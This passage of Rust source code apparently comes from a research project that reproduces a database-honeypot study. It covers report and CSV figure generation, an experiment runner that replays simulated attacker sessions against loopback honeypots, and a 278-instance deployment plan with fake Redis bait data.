                    "{}/{:?}/{:?}#{}",
                    id.dbms.label(),
                    id.level,
                    id.config,
                    id.instance
                ),
                row.transitions,
                row.degraded,
                row.down,
                row.restarts,
                row.final_state.label()
            );
        }
        let _ = writeln!(
            body,
            "total: {} listeners touched, {} restarts, {} ended down",
            totals.listeners, totals.restarts, totals.down
        );
    }
    Section {
        id: "Fleet health".into(),
        title: "supervised listener uptime".into(),
        body,
    }
}

/// The store-scanning wrapper kept for [`Report::generate_legacy`].
fn sec_fleet(result: &ExperimentResult) -> Section {
    fmt_fleet(fleet_uptime(&result.store), result.fleet.as_ref())
}

// ---------------------------------------------------------------------------
// CSV export
// ---------------------------------------------------------------------------

/// Export plot-ready CSV artifacts for the paper's figures into `dir`:
/// hourly series (Figure 2 and 6–9), retention samples (Figures 3 and 5),
/// and the UpSet intersections (Figure 4). Returns the files written.
/// Like [`Report::generate`], this builds one [`AnalysisFrame`] and derives
/// every artifact from it.
pub fn export_csv(
    result: &ExperimentResult,
    dir: &std::path::Path,
) -> std::io::Result<Vec<std::path::PathBuf>> {
    use std::io::Write as _;
    std::fs::create_dir_all(dir)?;
    let mut written = Vec::new();
    let frame = AnalysisFrame::build(&result.store, &result.geo);
    let low = frame.view(Partition::Low);
    let med_high = frame.view(Partition::MedHigh);

    // Figures 2, 6–9: hourly series
    for (name, dbms) in [
        ("fig2_hourly_all", None),
        ("fig6_hourly_mssql", Some(Dbms::Mssql)),
        ("fig7_hourly_mysql", Some(Dbms::MySql)),
        ("fig8_hourly_postgres", Some(Dbms::Postgres)),
        ("fig9_hourly_redis", Some(Dbms::Redis)),
    ] {
        let series = hourly_series_view(low, dbms, EXPERIMENT_START, 480);
        let path = dir.join(format!("{name}.csv"));
        let mut f = std::fs::File::create(&path)?;
        writeln!(f, "hour,unique_clients,new_clients,cumulative_clients")?;
        for (hour, b) in series.buckets.iter().enumerate() {
            writeln!(
                f,
                "{hour},{},{},{}",
                b.unique_clients, b.new_clients, b.cumulative_clients
            )?;
        }
        written.push(path);
    }

    // Figure 3: retention per DBMS (one sample row per source)
    {
        let path = dir.join("fig3_retention_low.csv");
        let mut f = std::fs::File::create(&path)?;
        writeln!(f, "dbms,days_active")?;
        for dbms in FIG3_DBMS {
            for days in retention_days_view(low, Some(dbms), EXPERIMENT_START).values() {
                writeln!(f, "{},{days}", dbms.label())?;
            }
        }
        written.push(path);
    }

    // Figure 5: retention per behavior class
    {
        let path = dir.join("fig5_retention_behavior.csv");
        let mut f = std::fs::File::create(&path)?;
        writeln!(f, "class,days_active")?;
        let profiles = classify_view(med_high, None);
        let retention = retention_days_view(med_high, None, EXPERIMENT_START);
        for (src, profile) in &profiles {
            if let Some(days) = retention.get(src) {
                writeln!(f, "{},{days}", profile.primary().label())?;
            }
        }
        written.push(path);
    }

    // Figure 4: UpSet intersections
    {
        let path = dir.join("fig4_upset.csv");
        let mut f = std::fs::File::create(&path)?;
        writeln!(f, "combination,sources")?;
        for (combo, n) in upset_view(med_high, &MED_HIGH_FAMILIES).sorted() {
            let label: Vec<&str> = combo.iter().map(|d| d.label()).collect();
            writeln!(f, "{},{n}", label.join("+"))?;
        }
        written.push(path);
    }
    Ok(written)
}

/// Render a series as a one-line unicode sparkline, downsampled to `width`.
fn sparkline(values: &[f64], width: usize) -> String {
    const BARS: [char; 8] = ['▁', '▂', '▃', '▄', '▅', '▆', '▇', '█'];
    if values.is_empty() || width == 0 {
        return String::new();
    }
    let chunk = values.len().div_ceil(width);
    let buckets: Vec<f64> = values
        .chunks(chunk)
        .map(|c| c.iter().sum::<f64>() / c.len() as f64)
        .collect();
    let max = buckets.iter().cloned().fold(f64::MIN, f64::max).max(1e-9);
    buckets
        .iter()
        .map(|&v| BARS[((v / max * 7.0).round() as usize).min(7)])
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::runner::{run, ExperimentConfig};

    #[tokio::test]
    async fn report_generates_all_sections() {
        let result = run(ExperimentConfig::direct(21, 0.02)).await.unwrap();
        let report = Report::generate(&result);
        for id in [
            "Section 5",
            "Figure 2",
            "Figure 3",
            "Table 5",
            "Table 6",
            "Table 7",
            "Table 12",
            "Figure 4",
            "Table 8",
            "Table 9",
            "Table 10",
            "Table 11",
            "Figure 5",
            "Section 5 control",
            "Section 6 config",
            "Section 6 intel",
            "Section 6 fake data",
            "Figure 6",
            "Figure 9",
            "Detectability",
            "Fleet health",
        ] {
            assert!(report.section(id).is_some(), "missing {id}");
        }
        let text = report.render_text();
        assert!(text.contains("==== Table 5"));
        assert!(text.len() > 2000, "{}", text.len());
    }

    #[tokio::test]
    async fn frame_report_matches_legacy_byte_for_byte() {
        let result = run(ExperimentConfig::direct(21, 0.02)).await.unwrap();
        let frame_text = Report::generate(&result).render_text();
        let legacy_text = Report::generate_legacy(&result).render_text();
        assert_eq!(frame_text, legacy_text);
    }

    #[tokio::test]
    async fn report_shape_checks_hold_in_direct_mode() {
        let result = run(ExperimentConfig::direct(22, 0.02)).await.unwrap();
        let report = Report::generate(&result);

        // Table 5: Russia must top the login table (the 4 heavy hitters).
        let t5 = &report.section("Table 5").unwrap().body;
        let first_row = t5.lines().nth(1).unwrap();
        assert!(
            first_row.starts_with("RU"),
            "Table 5 first row: {first_row}"
        );

        // Table 12: `sa` leads usernames.
        let t12 = &report.section("Table 12").unwrap().body;
        assert!(t12.lines().next().unwrap().contains("Username"));
        assert!(t12.lines().nth(1).unwrap().starts_with("sa"), "{t12}");

        // Section 6: restricted PG collects about twice the open logins.
        let cfg = &report.section("Section 6 config").unwrap().body;
        let ratio: f64 = cfg
            .split("ratio ")
            .nth(1)
            .and_then(|s| s.split(';').next())
            .and_then(|s| s.trim().parse().ok())
            .unwrap();
        assert!(
            (1.2..6.0).contains(&ratio),
            "restricted/open ratio {ratio} (paper 2.07; noisy at small scale)"
        );

        // Figure 5: exploiters are the most persistent class.
        let f5 = &report.section("Figure 5").unwrap().body;
        assert!(f5.contains("exploiters most persistent: yes"), "{f5}");
    }

    #[tokio::test]
    async fn csv_export_writes_all_figures() {
        let result = run(ExperimentConfig::direct(23, 0.005)).await.unwrap();
        let dir = std::env::temp_dir().join(format!("decoy-csv-{}", std::process::id()));
        let files = export_csv(&result, &dir).unwrap();
        assert_eq!(files.len(), 8);
        for path in &files {
            let text = std::fs::read_to_string(path).unwrap();
            assert!(text.lines().count() > 1, "{path:?} is empty");
            // header + consistent column counts
            let cols = text.lines().next().unwrap().split(',').count();
            assert!(text.lines().all(|l| l.split(',').count() == cols));
        }
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn sparkline_shapes() {
        assert_eq!(sparkline(&[], 10), "");
        let s = sparkline(&[0.0, 1.0, 2.0, 3.0], 4);
        assert_eq!(s.chars().count(), 4);
        let down = sparkline(&(0..100).map(|i| i as f64).collect::<Vec<_>>(), 10);
        assert_eq!(down.chars().count(), 10);
    }
}
