//! The experiment runner: replay the 20-day attacker schedule against the
//! deployed fleet.
//!
//! * `Mode::Network` — spawns every honeypot on loopback, drives each
//!   planned session through the real TCP drivers of `decoy-agents`
//!   (bounded concurrency), advancing the shared [`SimClock`] to each
//!   session's virtual start time so honeypot logs carry virtual
//!   timestamps.
//! * `Mode::Direct` — emits the equivalent events without sockets; used for
//!   full-volume runs. The `modes_equivalent` integration test pins the two
//!   modes together.

use crate::deployment::{fake_redis_entries, DeploymentPlan};
use decoy_agents::population::{build_population, PopulationConfig};
use decoy_agents::schedule::{build_schedule, PlannedSession};
use decoy_agents::{direct, driver};
use decoy_geo::GeoDb;
use decoy_honeypots::deploy::{spawn_supervised, HoneypotSpec, SupervisedHoneypot};
use decoy_net::chaos::FaultPlan;
use decoy_net::server::ListenerOptions;
use decoy_net::supervisor::{FleetHealth, Supervisor, SupervisorOptions};
use decoy_net::time::{Clock, SimClock, Timestamp, EXPERIMENT_START};
use decoy_store::journal::{JournalConfig, JournalWriter};
use decoy_store::{EventKind, EventStore, RecoveryStats};
use std::collections::HashMap;
use std::path::PathBuf;
use std::sync::Arc;

/// Execution mode.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mode {
    /// Real TCP against live honeypots.
    Network,
    /// Event emission without sockets.
    Direct,
}

/// Experiment parameters.
#[derive(Debug, Clone)]
pub struct ExperimentConfig {
    /// RNG seed for population, schedule, and bait data.
    pub seed: u64,
    /// Population/volume scale (1.0 = paper).
    pub scale: f64,
    /// Deployment scale (instance counts); usually smaller than the
    /// population scale is fine since analyses are per-source.
    pub deployment_scale: f64,
    /// Execution mode.
    pub mode: Mode,
    /// Concurrent sessions in network mode.
    pub concurrency: usize,
    /// Deploy + attack the §7 extension honeypots (medium MySQL, CouchDB).
    pub extensions: bool,
    /// Seeded fault-injection plan (network mode only); `None` runs clean.
    pub faults: Option<FaultPlan>,
    /// Spool mode: when set, every event is also appended to a durable
    /// segmented journal in this directory (see `decoy_store::journal`), so
    /// a crashed run can be recovered with [`ExperimentResult::recover`].
    pub persist: Option<PathBuf>,
    /// Live rendering interval (spool mode only): when set, a sidecar
    /// thread tails the journal with a [`crate::report::LiveReport`] and
    /// rewrites `live-report.txt` in the journal directory every this many
    /// milliseconds while the run executes, plus once after the final sync.
    pub live_report_every_ms: Option<u64>,
}

impl ExperimentConfig {
    /// A network-mode config at `scale`.
    pub fn network(seed: u64, scale: f64) -> Self {
        ExperimentConfig {
            seed,
            scale,
            deployment_scale: scale.clamp(0.1, 1.0),
            mode: Mode::Network,
            concurrency: 64,
            extensions: false,
            faults: None,
            persist: None,
            live_report_every_ms: None,
        }
    }

    /// A direct-mode config at `scale`.
    pub fn direct(seed: u64, scale: f64) -> Self {
        ExperimentConfig {
            mode: Mode::Direct,
            ..Self::network(seed, scale)
        }
    }

    /// Enable spool mode: journal every event into `dir`.
    pub fn persist_to(mut self, dir: impl Into<PathBuf>) -> Self {
        self.persist = Some(dir.into());
        self
    }

    /// Enable live rendering: while a spooled run executes, re-render the
    /// full report from the journal tail every `ms` milliseconds into
    /// `live-report.txt` next to the segments. No effect without
    /// [`persist_to`](Self::persist_to).
    pub fn live_report_every(mut self, ms: u64) -> Self {
        self.live_report_every_ms = Some(ms);
        self
    }
}

/// Everything a finished run produces.
pub struct ExperimentResult {
    /// The standardized event store (input to every analysis).
    pub store: Arc<EventStore>,
    /// The enrichment database used.
    pub geo: Arc<GeoDb>,
    /// The deployment that served the run.
    pub plan: DeploymentPlan,
    /// Planned sessions replayed.
    pub sessions: usize,
    /// TCP connections opened (network mode) or emulated (direct mode).
    pub connections: usize,
    /// Driver-level errors (network mode).
    pub errors: usize,
    /// Final fleet-health snapshot (network mode; `None` in direct mode).
    pub fleet: Option<FleetHealth>,
    /// Times the live-report sidecar rewrote `live-report.txt` (spool mode
    /// with [`ExperimentConfig::live_report_every`] set; 0 otherwise).
    pub live_renders: u64,
    /// The config that produced this result.
    pub config: ExperimentConfig,
}

impl ExperimentResult {
    /// Rebuild a result from a spooled journal directory, without re-running
    /// the experiment: the store is replayed through the journal's total
    /// recovery path (indexes rebuilt through the normal append path, order
    /// preserved), and the geo database and deployment plan — both pure
    /// functions of `config` — are reconstructed deterministically. Session
    /// and connection counters are not journaled and come back as zero;
    /// every analysis and report section depends only on the store, so a
    /// report generated from a fault-free recovered result is byte-identical
    /// to one from the original run.
    pub fn recover(
        config: ExperimentConfig,
        dir: impl AsRef<std::path::Path>,
    ) -> std::io::Result<(ExperimentResult, RecoveryStats)> {
        let (store, stats) = decoy_store::recover_full_store(dir)?;
        let plan =
            DeploymentPlan::scaled_with(config.seed, config.deployment_scale, config.extensions);
        Ok((
            ExperimentResult {
                store,
                geo: GeoDb::builtin(),
                plan,
                sessions: 0,
                connections: 0,
                errors: 0,
                fleet: None,
                live_renders: 0,
                config,
            },
            stats,
        ))
    }
}

/// Run the experiment described by `config`.
pub async fn run(config: ExperimentConfig) -> std::io::Result<ExperimentResult> {
    let geo = GeoDb::builtin();
    let store = EventStore::new();
    let sim = SimClock::at_experiment_start();
    let clock = Clock::Sim(sim.clone());

    if let Some(dir) = &config.persist {
        // Spool: mirror every surviving append into the durable journal,
        // batched on the experiment's virtual clock.
        let journal = JournalWriter::open(JournalConfig::spool(dir).with_clock(clock.clone()))?;
        store.with_journal(journal);
    }

    // Report-as-you-ingest: a sidecar thread tails the journal this run is
    // writing and periodically re-renders the full report beside it. It only
    // ever reads completed frames, so it observes the same prefix any
    // concurrent external reader would.
    let live = match (&config.persist, config.live_report_every_ms) {
        (Some(dir), Some(every_ms)) => {
            let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
            let flag = Arc::clone(&stop);
            let dir = dir.clone();
            let cfg = config.clone();
            let handle = std::thread::Builder::new()
                .name("live-report".into())
                .spawn(move || {
                    let mut live = crate::report::LiveReport::open(&cfg, &dir);
                    let mut renders = 0u64;
                    let interval = std::time::Duration::from_millis(every_ms.max(1));
                    let mut last_render = std::time::Instant::now();
                    loop {
                        // Read the stop flag before polling: everything the
                        // run flushed before setting it is drained by this
                        // final poll, so the last render sees the full run.
                        let stopping = flag.load(std::sync::atomic::Ordering::Acquire);
                        let _ = live.poll();
                        if stopping || last_render.elapsed() >= interval {
                            let text = live.render().render_text();
                            if std::fs::write(dir.join("live-report.txt"), text).is_ok() {
                                renders = renders.saturating_add(1);
                            }
                            last_render = std::time::Instant::now();
                        }
                        if stopping {
                            return renders;
                        }
                        std::thread::sleep(std::time::Duration::from_millis(10));
                    }
                })?;
            Some((stop, handle))
        }
        _ => None,
    };

    let mut plan =
        DeploymentPlan::scaled_with(config.seed, config.deployment_scale, config.extensions);
    let mut population_config = PopulationConfig::scaled(config.seed, config.scale);
    if config.extensions {
        population_config = population_config.with_extensions();
    }
    let population = build_population(&population_config, &geo);
    let schedule = build_schedule(&population, EXPERIMENT_START, config.seed);

    let (connections, errors, fleet) = match config.mode {
        Mode::Network => {
            // Chaos plans may drop event-store appends too; health events
            // are exempt so the uptime table never loses a transition.
            if let Some(plan) = config.faults.clone() {
                let appends = std::sync::atomic::AtomicU64::new(0);
                store.set_fault_hook(move |e| {
                    !matches!(e.kind, EventKind::Health { .. })
                        && plan.drops_append(
                            appends.fetch_add(1, std::sync::atomic::Ordering::Relaxed),
                        )
                });
            }
            // stand the fleet up under supervision
            let supervisor = Supervisor::new(SupervisorOptions::fast_replay(), clock.clone());
            let mut running: Vec<SupervisedHoneypot> = Vec::with_capacity(plan.len());
            for inst in &mut plan.instances {
                let spec = HoneypotSpec {
                    id: inst.id,
                    bind: "127.0.0.1:0".parse().expect("loopback"),
                    clock: clock.clone(),
                    seed: inst.seed,
                };
                let options = ListenerOptions {
                    clock: clock.clone(),
                    faults: config.faults.clone(),
                    fault_key: inst.seed,
                    ..ListenerOptions::default()
                };
                let hp = spawn_supervised(store.clone(), spec, &supervisor, options).await?;
                inst.addr = Some(hp.addr());
                running.push(hp);
            }
            let totals = replay_network(&plan, &schedule, &sim, config.concurrency).await;
            // Snapshot only after shutdown: a listener crash can still be
            // in flight when the last driver returns, and the snapshot must
            // agree with the Health events already logged.
            supervisor.shutdown().await;
            let fleet = supervisor.fleet_health();
            store.clear_fault_hook();
            drop(running);
            (totals.0, totals.1, Some(fleet))
        }
        Mode::Direct => {
            let (connections, errors) = replay_direct(&plan, &schedule, &sim, &store);
            (connections, errors, None)
        }
    };

    // Durability barrier: when run() returns, a spooled journal holds every
    // event on disk, so even a caller that exits without dropping the store
    // (a crash, in the dataset_analysis example) loses nothing.
    store.journal_sync()?;

    // The final live render happens after the sync barrier above, so
    // `live-report.txt` covers the complete run when run() returns.
    let live_renders = match live {
        Some((stop, handle)) => {
            stop.store(true, std::sync::atomic::Ordering::Release);
            handle.join().unwrap_or(0)
        }
        None => 0,
    };

    Ok(ExperimentResult {
        store,
        geo,
        plan,
        sessions: schedule.len(),
        connections,
        errors,
        fleet,
        live_renders,
        config,
    })
}

async fn replay_network(
    plan: &DeploymentPlan,
    schedule: &[PlannedSession],
    sim: &Arc<SimClock>,
    concurrency: usize,
) -> (usize, usize) {
    let mut connections = 0usize;
    let mut errors = 0usize;
    let mut joinset = tokio::task::JoinSet::new();
    let mut in_flight = 0usize;
    for session in schedule {
        sim.advance_to(session.ts);
        let Some(idx) = plan.pick(&session.target, session.src) else {
            continue;
        };
        let Some(addr) = plan.instances[idx].addr else {
            continue;
        };
        let session = session.clone();
        joinset.spawn(async move { driver::run_session(addr, &session).await });
        in_flight += 1;
        if in_flight >= concurrency {
            match joinset.join_next().await {
                Some(Ok(outcome)) => {
                    connections += outcome.connections;
                    errors += outcome.errors;
                }
                // A panicked or aborted driver task loses its counts; it
                // must still surface as a driver error, not vanish.
                Some(Err(_)) => errors += 1,
                None => {}
            }
            in_flight -= 1;
        }
    }
    while let Some(joined) = joinset.join_next().await {
        match joined {
            Ok(outcome) => {
                connections += outcome.connections;
                errors += outcome.errors;
            }
            Err(_) => errors += 1,
        }
    }
    (connections, errors)
}

fn replay_direct(
    plan: &DeploymentPlan,
    schedule: &[PlannedSession],
    sim: &Arc<SimClock>,
    store: &Arc<EventStore>,
) -> (usize, usize) {
    // per-instance session counters and cached fake keys
    let mut counters: Vec<u64> = vec![0; plan.len()];
    let mut keys_cache: HashMap<usize, Vec<(String, String)>> = HashMap::new();
    let mut connections = 0usize;
    for session in schedule {
        sim.advance_to(session.ts);
        let Some(idx) = plan.pick(&session.target, session.src) else {
            continue;
        };
        let inst = &plan.instances[idx];
        let fake_entries: &[(String, String)] = if inst.id.config
            == decoy_store::ConfigVariant::FakeData
            && inst.id.dbms == decoy_store::Dbms::Redis
        {
            keys_cache
                .entry(idx)
                .or_insert_with(|| fake_redis_entries(inst.seed))
        } else {
            &[]
        };
        let mut sink = direct::DirectSink {
            store,
            honeypot: inst.id,
            session_seq: &mut counters[idx],
            fake_entries,
        };
        direct::emit_session(&mut sink, session);
        connections += session.script.connections_per_visit();
    }
    (connections, 0)
}

/// Final virtual time after a full replay (diagnostics).
pub fn window_end() -> Timestamp {
    decoy_net::time::EXPERIMENT_END
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_store::EventKind;

    #[tokio::test]
    async fn direct_mode_small_run() {
        let result = run(ExperimentConfig::direct(11, 0.01)).await.unwrap();
        assert!(result.sessions > 0);
        assert!(result.connections > 0);
        assert_eq!(result.errors, 0);
        assert!(!result.store.is_empty());
        // inspect events in place — no full-store clone
        let (in_window, mssql_logins, other_logins) = result.store.read(|all| {
            let in_window = all
                .iter()
                .all(|e| e.ts >= EXPERIMENT_START && e.ts <= window_end());
            let mssql_logins = all
                .iter()
                .filter(|e| {
                    e.honeypot.dbms == decoy_store::Dbms::Mssql
                        && matches!(e.kind, EventKind::LoginAttempt { .. })
                })
                .count();
            let other_logins = all
                .iter()
                .filter(|e| {
                    e.honeypot.dbms != decoy_store::Dbms::Mssql
                        && matches!(e.kind, EventKind::LoginAttempt { .. })
                })
                .count();
            (in_window, mssql_logins, other_logins)
        });
        // events carry virtual timestamps inside the window
        assert!(in_window);
        // logins exist (brute cohorts) and MSSQL dominates
        assert!(
            mssql_logins > other_logins * 10,
            "mssql {mssql_logins} vs other {other_logins}"
        );
    }

    #[tokio::test]
    async fn extensions_flag_adds_couch_traffic() {
        let mut config = ExperimentConfig::direct(31, 0.02);
        config.extensions = true;
        let result = run(config).await.unwrap();
        let couch = result.store.by_dbms(decoy_store::Dbms::CouchDb);
        assert!(!couch.is_empty(), "no CouchDB events with extensions on");
        let base = run(ExperimentConfig::direct(31, 0.02)).await.unwrap();
        assert!(base.store.by_dbms(decoy_store::Dbms::CouchDb).is_empty());
    }

    #[tokio::test]
    async fn spooled_run_recovers_identical_events() {
        let dir = std::env::temp_dir().join(format!("decoy-spool-test-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        let config = ExperimentConfig::direct(5, 0.005).persist_to(&dir);
        let live = run(config.clone()).await.unwrap();
        live.store.close_journal().unwrap();

        let (recovered, stats) = ExperimentResult::recover(config, &dir).unwrap();
        assert!(stats.is_clean(), "{}", stats.summary());
        assert_eq!(stats.records_kept as usize, live.store.len());
        assert!(
            recovered.store.events_eq(&live.store),
            "journal replay diverged from the live store"
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[tokio::test]
    async fn live_report_renders_during_spooled_run() {
        let dir = std::env::temp_dir().join(format!("decoy-live-test-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        let config = ExperimentConfig::direct(5, 0.005)
            .persist_to(&dir)
            .live_report_every(25);
        let result = run(config).await.unwrap();
        assert!(result.live_renders >= 1, "no live renders happened");
        // the final live render (written after the journal sync barrier)
        // matches the batch report over the finished run
        let live_text = std::fs::read_to_string(dir.join("live-report.txt")).unwrap();
        let batch_text = crate::report::Report::generate(&result).render_text();
        assert_eq!(live_text, batch_text);
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[tokio::test]
    async fn direct_mode_is_deterministic() {
        let a = run(ExperimentConfig::direct(3, 0.005)).await.unwrap();
        let b = run(ExperimentConfig::direct(3, 0.005)).await.unwrap();
        // zero-clone comparison: both stores are read in place
        assert!(a.store.events_eq(&b.store), "runs diverged");
        assert_eq!(a.store.session_count(), b.store.session_count());
        assert_eq!(a.connections, b.connections);
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    async fn network_mode_tiny_run() {
        let mut config = ExperimentConfig::network(17, 0.002);
        config.deployment_scale = 0.02;
        let result = run(config).await.unwrap();
        assert!(result.sessions > 0);
        assert!(result.connections > 0);
        // the replay is lossy-free: nearly all sessions succeed
        let error_rate = result.errors as f64 / result.connections.max(1) as f64;
        assert!(error_rate < 0.05, "error rate {error_rate}");
        assert!(!result.store.is_empty());
        // network mode records proxy-announced (actor) sources, not loopback
        let loopback_events = result.store.filter(|e| e.src.is_loopback());
        assert!(
            loopback_events.is_empty(),
            "loopback-source events: {:?}",
            &loopback_events[..loopback_events.len().min(5)]
        );
    }
}
