//! The Table 4 deployment plan.
//!
//! | Level | DBMS | Instances (paper) | Configuration |
//! |---|---|---|---|
//! | Low | MySQL/PostgreSQL/Redis/MSSQL | 50 each | multi-service VMs |
//! | Low | MySQL/PostgreSQL/Redis/MSSQL | 5 each | single-service VMs (control) |
//! | Medium | Redis | 10 + 10 | default + fake data |
//! | Medium | PostgreSQL | 10 + 10 | default + login disabled |
//! | Medium | Elasticsearch | 10 | default |
//! | High | MongoDB | 8 | fake data, eight countries |
//!
//! Instance counts scale down with the experiment (the per-source analyses
//! are instance-count-invariant); per-instance seeds are derived
//! deterministically so network and direct modes bait identical fake data.

use decoy_agents::actors::TargetSelector;
use decoy_store::{ConfigVariant, Dbms, HoneypotId, InteractionLevel};
use std::net::SocketAddr;

/// Where the paper's eight MongoDB honeypots were hosted (§4.2).
pub const MONGO_COUNTRIES: [&str; 8] = ["AU", "CA", "DE", "IN", "NL", "SG", "GB", "US"];

/// One planned honeypot instance.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InstanceRef {
    /// Identity.
    pub id: HoneypotId,
    /// Deterministic seed for the instance's bait data.
    pub seed: u64,
    /// Bound address once the network mode spawned it.
    pub addr: Option<SocketAddr>,
}

/// The full deployment.
#[derive(Debug, Clone, Default)]
pub struct DeploymentPlan {
    /// All instances in declaration order.
    pub instances: Vec<InstanceRef>,
}

impl DeploymentPlan {
    /// The paper's deployment (278 instances).
    pub fn paper(seed: u64) -> Self {
        Self::scaled(seed, 1.0)
    }

    /// A scaled deployment: each group keeps at least one instance (and the
    /// control groups at least one per DBMS) so every configuration variant
    /// of §4.2 stays observable.
    pub fn scaled(seed: u64, scale: f64) -> Self {
        Self::scaled_with(seed, scale, false)
    }

    /// Like [`DeploymentPlan::scaled`], optionally adding the §7 extension
    /// honeypots (medium MySQL, medium CouchDB).
    pub fn scaled_with(seed: u64, scale: f64, extensions: bool) -> Self {
        let n =
            |paper_count: usize| -> u16 { ((paper_count as f64 * scale).round() as u16).max(1) };
        let mut instances = Vec::new();
        let mut push = |dbms, level, config, count: u16| {
            for instance in 0..count {
                let id = HoneypotId::new(dbms, level, config, instance);
                instances.push(InstanceRef {
                    id,
                    seed: instance_seed(seed, id),
                    addr: None,
                });
            }
        };
        use ConfigVariant::*;
        use InteractionLevel::*;
        for dbms in [Dbms::MySql, Dbms::Postgres, Dbms::Redis, Dbms::Mssql] {
            push(dbms, Low, MultiService, n(50));
            push(dbms, Low, SingleService, n(5));
        }
        push(Dbms::Redis, Medium, Default, n(10));
        push(Dbms::Redis, Medium, FakeData, n(10));
        push(Dbms::Postgres, Medium, Default, n(10));
        push(Dbms::Postgres, Medium, LoginDisabled, n(10));
        push(Dbms::Elastic, Medium, Default, n(10));
        push(Dbms::MongoDb, High, FakeData, n(8));
        if extensions {
            push(Dbms::MySql, Medium, Default, n(10));
            push(Dbms::CouchDb, Medium, FakeData, n(8));
        }
        DeploymentPlan { instances }
    }

    /// Number of instances.
    pub fn len(&self) -> usize {
        self.instances.len()
    }

    /// True when the plan is empty.
    pub fn is_empty(&self) -> bool {
        self.instances.is_empty()
    }

    /// Instances matching a target selector.
    pub fn matching(&self, sel: &TargetSelector) -> Vec<usize> {
        self.instances
            .iter()
            .enumerate()
            .filter(|(_, inst)| {
                inst.id.dbms == sel.dbms
                    && inst.id.level == sel.level
                    && sel.config.map(|c| inst.id.config == c).unwrap_or(true)
            })
            .map(|(i, _)| i)
            .collect()
    }

    /// Deterministically pick the instance a given source contacts for a
    /// selector (stable across runs and modes: same source, same instance).
    pub fn pick(&self, sel: &TargetSelector, src: std::net::Ipv4Addr) -> Option<usize> {
        let candidates = self.matching(sel);
        if candidates.is_empty() {
            return None;
        }
        let h = u32::from(src).wrapping_mul(0x9e37_79b9) as usize;
        Some(candidates[h % candidates.len()])
    }
}

/// Stable per-instance seed.
pub fn instance_seed(base: u64, id: HoneypotId) -> u64 {
    let mut h = base ^ 0x6465_636f_795f_6462; // "decoy_db"
    for component in [
        id.dbms as u64,
        id.level as u64,
        id.config as u64,
        id.instance as u64,
    ] {
        h = (h ^ component)
            .wrapping_mul(0x100_0000_01b3)
            .rotate_left(17);
    }
    h
}

/// The fake-data Redis `(key, value)` entries for an instance seed — shared
/// by the honeypot loader and the direct-mode emitter.
pub fn fake_redis_entries(seed: u64) -> Vec<(String, String)> {
    let mut generator = decoy_fakedata::FakeDataGenerator::new(seed);
    // The keyspace is a BTreeMap: duplicate usernames overwrite (last
    // wins) and KEYS answers in sorted order. Mirroring both here makes
    // direct-mode harvests byte-identical to network mode.
    let map: std::collections::BTreeMap<String, String> = generator
        .logins(decoy_honeypots::deploy::REDIS_FAKE_ENTRIES)
        .into_iter()
        .map(|l| (format!("user:{}", l.username), l.password))
        .collect();
    map.into_iter().collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paper_plan_has_278_instances() {
        let plan = DeploymentPlan::paper(1);
        assert_eq!(plan.len(), 278);
        let low = plan
            .instances
            .iter()
            .filter(|i| i.id.level == InteractionLevel::Low)
            .count();
        let medium = plan
            .instances
            .iter()
            .filter(|i| i.id.level == InteractionLevel::Medium)
            .count();
        let high = plan
            .instances
            .iter()
            .filter(|i| i.id.level == InteractionLevel::High)
            .count();
        assert_eq!((low, medium, high), (220, 50, 8));
    }

    #[test]
    fn extension_plan_adds_the_section7_honeypots() {
        let base = DeploymentPlan::scaled(1, 0.1);
        let extended = DeploymentPlan::scaled_with(1, 0.1, true);
        assert!(extended.len() > base.len());
        assert!(extended
            .instances
            .iter()
            .any(|i| i.id.dbms == Dbms::CouchDb));
        assert!(extended
            .instances
            .iter()
            .any(|i| i.id.dbms == Dbms::MySql && i.id.level == InteractionLevel::Medium));
        assert!(!base.instances.iter().any(|i| i.id.dbms == Dbms::CouchDb));
    }

    #[test]
    fn scaled_plan_keeps_every_variant() {
        let plan = DeploymentPlan::scaled(1, 0.01);
        use ConfigVariant::*;
        use InteractionLevel::*;
        for (dbms, level, config) in [
            (Dbms::MySql, Low, MultiService),
            (Dbms::MySql, Low, SingleService),
            (Dbms::Redis, Medium, Default),
            (Dbms::Redis, Medium, FakeData),
            (Dbms::Postgres, Medium, Default),
            (Dbms::Postgres, Medium, LoginDisabled),
            (Dbms::Elastic, Medium, Default),
            (Dbms::MongoDb, High, FakeData),
        ] {
            assert!(
                plan.instances
                    .iter()
                    .any(|i| i.id.dbms == dbms && i.id.level == level && i.id.config == config),
                "{dbms:?}/{level:?}/{config:?} missing at small scale"
            );
        }
    }

    #[test]
    fn selector_matching_and_stable_pick() {
        let plan = DeploymentPlan::scaled(1, 0.1);
        let sel = TargetSelector::medium(Dbms::Postgres, Some(ConfigVariant::LoginDisabled));
        let matches = plan.matching(&sel);
        assert!(!matches.is_empty());
        for &i in &matches {
            assert_eq!(plan.instances[i].id.config, ConfigVariant::LoginDisabled);
        }
        let src = std::net::Ipv4Addr::new(60, 1, 2, 3);
        assert_eq!(plan.pick(&sel, src), plan.pick(&sel, src));
        // unknown selector
        let bogus = TargetSelector {
            dbms: Dbms::MySql,
            level: InteractionLevel::High,
            config: None,
        };
        assert_eq!(plan.pick(&bogus, src), None);
    }

    #[test]
    fn instance_seeds_are_distinct_and_stable() {
        let plan_a = DeploymentPlan::paper(7);
        let plan_b = DeploymentPlan::paper(7);
        assert_eq!(plan_a.instances, plan_b.instances);
        let seeds: std::collections::HashSet<u64> =
            plan_a.instances.iter().map(|i| i.seed).collect();
        assert_eq!(seeds.len(), plan_a.len(), "seed collision");
        let plan_c = DeploymentPlan::paper(8);
        assert_ne!(plan_a.instances[0].seed, plan_c.instances[0].seed);
    }

    #[test]
    fn fake_entries_are_deterministic() {
        assert_eq!(fake_redis_entries(5), fake_redis_entries(5));
        assert_ne!(fake_redis_entries(5), fake_redis_entries(6));
